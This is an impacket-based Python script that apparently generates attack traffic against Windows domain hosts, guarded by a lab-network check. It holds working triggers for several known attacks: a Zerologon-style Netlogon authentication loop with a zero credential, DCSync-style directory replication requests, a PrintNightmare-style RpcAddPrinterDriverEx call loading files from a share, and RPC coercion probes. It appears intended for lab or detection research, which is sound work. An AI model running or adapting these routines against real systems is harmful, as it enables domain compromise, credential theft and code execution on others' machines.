#!/usr/bin/env python3
"""Stimuli for which no packaged program exists, on impacket's runtime. Only lab addresses.

usage: recon.py alive HOST...                 ServerAlive2 at every host's 135, as sweeps for interfaces do
       recon.py pipes HOST                    open and bind every coercible pipe, call nothing
       recon.py wakeup HOST                   ask the endpoint mapper for the EFS service, nothing else
       recon.py netlogon BINDING COUNT [2|3]  challenge and authenticate with a zero credential (MS-NRPC
                                              3.5.4.4), on a new connection each time; the lab's DC refuses
       recon.py replica BINDING ACCOUNT MODE [LEVEL]
                                              DRSBind, then DRSGetNCChanges for one object (mode object),
                                              or DRSAddEntry with no entry in it (mode add); as level 6 or LEVEL
       recon.py driver BINDING PATH           RpcAddPrinterDriverEx with its files on a share
"""

import ipaddress
import os
import re
import struct
import sys
import uuid

from impacket.dcerpc.v5 import drsuapi, epm, nrpc, rprn, transport
from impacket.dcerpc.v5.ndr import NULL
from impacket.uuid import uuidtup_to_bin

import methods

PASSWORDS = dict(entry.split(":", 1) for entry in os.environ["ACCOUNTS"].split())
LAB = ipaddress.ip_network(os.environ["LAB_NET"])
OXID_RESOLVER = ("99fcfec4-5260-101b-bbcb-00aa0021347a", "0.0")


def connect(binding, interface, level=1, account=os.environ["ALICE"]):
    host = re.search(r"\d+\.\d+\.\d+\.\d+", binding).group()
    if ipaddress.ip_address(host) not in LAB:
        raise SystemExit(f"{host} is not in the lab")
    channel = transport.DCERPCTransportFactory(binding)
    channel.set_connect_timeout(3)
    credentials = account, PASSWORDS[account], os.environ["DOMAIN"]
    if binding.startswith("ncacn_np"):
        channel.set_credentials(*credentials)
    rpc = channel.get_dce_rpc()
    if level > 1:
        rpc.set_credentials(*credentials)
        rpc.set_auth_level(level)
    rpc.connect()
    rpc.bind(interface)
    return rpc


def tried(what, function):
    try:
        print(what, function())
    except Exception as error:  # refusals are among what we want to record
        print(what, type(error).__name__, error)


def alive(*hosts):
    def ask(host):
        rpc = connect(f"ncacn_ip_tcp:{host}[135]", uuidtup_to_bin(OXID_RESOLVER))
        rpc.call(5, b"")
        answer = rpc.recv()
        rpc.disconnect()
        return answer.hex()

    for host in hosts:
        tried(host, lambda: ask(host))


def pipes(host):
    for uuid_text, version, pipe, _ in methods.INTERFACES.values():
        if pipe:
            interface = uuidtup_to_bin((uuid_text, version))
            binding = f"ncacn_np:{host}[\\pipe\\{pipe}]"
            tried(pipe, lambda: connect(binding, interface).disconnect())


def wakeup(host):
    interface = uuidtup_to_bin(methods.INTERFACES["efsr"][:2])
    connect(f"ncacn_ip_tcp:{host}[135]", uuidtup_to_bin(("e1af8308-5d1f-11c9-91a4-08002b14a0fa", "3.0"))).disconnect()
    tried(host, lambda: epm.hept_map(host, interface, protocol="ncacn_ip_tcp"))


def netlogon(binding, count, version="3"):
    def attempt():
        rpc = connect(binding, nrpc.MSRPC_UUID_NRPC)
        nrpc.hNetrServerReqChallenge(rpc, NULL, "EVIL\0", bytes(8))
        channel = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel
        ask = nrpc.hNetrServerAuthenticate3 if version == "3" else nrpc.hNetrServerAuthenticate2
        try:
            ask(rpc, NULL, os.environ["DC_NAME"].upper() + "$\0", channel, "EVIL\0", bytes(8), 0x212FFFFF)
        finally:
            rpc.disconnect()

    if "[" not in binding:
        binding = epm.hept_map(binding.split(":")[1], nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")
    for _ in range(int(count)):
        tried("attempt", attempt)


def replica(binding, account, mode, level="6"):
    if "[" not in binding:
        binding = epm.hept_map(binding.split(":")[1], drsuapi.MSRPC_UUID_DRSUAPI, protocol="ncacn_ip_tcp")
    rpc = connect(binding, drsuapi.MSRPC_UUID_DRSUAPI, int(level), account)
    request = drsuapi.DRSBind()
    request["puuidClientDsa"] = drsuapi.NTDSAPI_CLIENT_GUID
    extensions = drsuapi.DRS_EXTENSIONS_INT()
    extensions["cb"] = len(extensions)
    extensions["dwFlags"] = drsuapi.DRS_EXT_GETCHGREQ_V6 | drsuapi.DRS_EXT_STRONG_ENCRYPTION
    extensions["SiteObjGuid"] = drsuapi.NULLGUID
    extensions["ConfigObjGUID"] = drsuapi.NULLGUID
    request["pextClient"]["cb"] = len(extensions)
    request["pextClient"]["rgb"] = list(extensions.getData())
    handle = rpc.request(request)["phDrs"]
    if mode == "add":
        # DRS_MSG_ADDENTRYREQ_V2 with an empty list
        stub = bytes(handle) + struct.pack("<IIII", 2, 2, 0, 0)
        tried("DRSAddEntry", lambda: rpc.call(17, stub) or rpc.recv().hex())
    else:
        tried("DRSGetNCChanges", lambda: len(rpc.request(one_object(handle)).getData()))
    tried("DRSUnbind", lambda: rpc.disconnect())


def one_object(handle):
    name = f"CN={os.environ['ALICE']},CN=Users,DC={os.environ['REALM'].lower().replace('.', ',DC=')}\0"
    request = drsuapi.DRSGetNCChanges()
    request["hDrs"] = handle
    request["dwInVersion"] = 8
    request["pmsgIn"]["tag"] = 8
    message = request["pmsgIn"]["V8"]
    message["uuidDsaObjDest"] = uuid.uuid4().bytes
    message["uuidInvocIdSrc"] = uuid.uuid4().bytes
    dsname = drsuapi.DSNAME()
    dsname["SidLen"] = 0
    dsname["Sid"] = ""
    dsname["Guid"] = drsuapi.NULLGUID
    dsname["NameLen"] = len(name) - 1
    dsname["StringName"] = name
    dsname["structLen"] = len(dsname.getDataReferent())
    message["pNC"] = dsname
    message["usnvecFrom"]["usnHighObjUpdate"] = 0
    message["usnvecFrom"]["usnHighPropUpdate"] = 0
    message["pUpToDateVecDest"] = NULL
    message["ulFlags"] = drsuapi.DRS_INIT_SYNC | drsuapi.DRS_WRIT_REP
    message["cMaxObjects"] = 1
    message["cMaxBytes"] = 0
    message["ulExtendedOp"] = drsuapi.EXOP_REPL_OBJ
    message["pPartialAttrSet"] = NULL
    message["pPartialAttrSetEx1"] = NULL
    message["PrefixTableDest"]["pPrefixEntry"] = NULL
    return request


def driver(binding, path, level="1"):
    rpc = connect(binding, rprn.MSRPC_UUID_RPRN, int(level))
    container = rprn.DRIVER_CONTAINER()
    container["Level"] = 2
    container["DriverInfo"]["tag"] = 2
    info = container["DriverInfo"]["Level2"]
    info["cVersion"] = 3
    info["pName"] = "Lab driver\0"
    info["pEnvironment"] = "Windows x64\0"
    for field in ("pDriverPath", "pConfigFile"):
        info[field] = "C:\\Windows\\System32\\kernelbase.dll\0"
    info["pDataFile"] = path + "\0"
    host = re.search(r"\d+\.\d+\.\d+\.\d+", binding).group()
    copy = 0x8000 | 0x10 | 0x4  # install a driver that was warned about, from a directory, all files
    tried("driver", lambda: rprn.hRpcAddPrinterDriverEx(rpc, f"\\\\{host}\0", container, copy).dump())
    rpc.disconnect()


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
